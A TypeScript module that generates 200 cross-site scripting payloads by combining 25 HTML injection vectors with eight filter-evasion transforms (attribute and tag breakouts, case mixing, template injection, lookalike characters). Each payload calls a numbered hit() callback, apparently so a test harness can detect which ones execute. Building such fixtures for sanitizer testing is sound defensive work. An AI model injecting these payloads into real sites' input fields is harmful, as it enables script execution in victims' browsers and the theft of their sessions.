const vectors = [
  "<script>{}</script>",
  "<img src=x onerror={}>",
  "<svg onload={}>",
  "<svg><script>{}</script></svg>",
  "<iframe srcdoc='<script>{}</script>'>",
  "<iframe src=javascript:{}>",
  "<body onload={}>",
  "<input autofocus onfocus={}>",
  "<details open ontoggle={}>x</details>",
  "<video><source onerror={}>",
  "<audio src=x onerror={}>",
  "<marquee onstart={}>x</marquee>",
  "<math><mtext><script>{}</script></mtext></math>",
  "<a href=javascript:{}>x</a>",
  "<form action=javascript:{}><button>x</button></form>",
  "<object data=javascript:{}>",
  "<embed src=javascript:{}>",
  "<link rel=stylesheet href=javascript:{}>",
  "<meta http-equiv=refresh content='0;url=javascript:{}'>",
  "<base href=javascript:{}//>",
  "<style>@import 'javascript:{}'</style>",
  "<template><script>{}</script></template>",
  "<x contenteditable onblur={}>x",
  "<noscript><p title='</noscript><img src=x onerror={}>'>",
  "<textarea></textarea><script>{}</script>",
] as const;

const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `'">${text}`,
  (text) => `</textarea></script></title>${text}`,
  (text) => text.replaceAll("script", "ScRiPt").replaceAll("on", "oN"),
  (text) => text.replaceAll(" ", "/"),
  (text) => `--><!--${text}`,
  (text) => `\${${text}}{{constructor.constructor('${text}')()}}`,
  (text) => text.replaceAll("<", "\uff1c<"),
];

/** Two hundred texts that try to run, each calling `hit` with its number, in every field a stranger can fill. */
export const payloads: readonly string[] = vectors.flatMap((vector, index) =>
  disguises.map((disguise, way) => disguise(vector.replaceAll("{}", `hit(${index * disguises.length + way})`))),
);
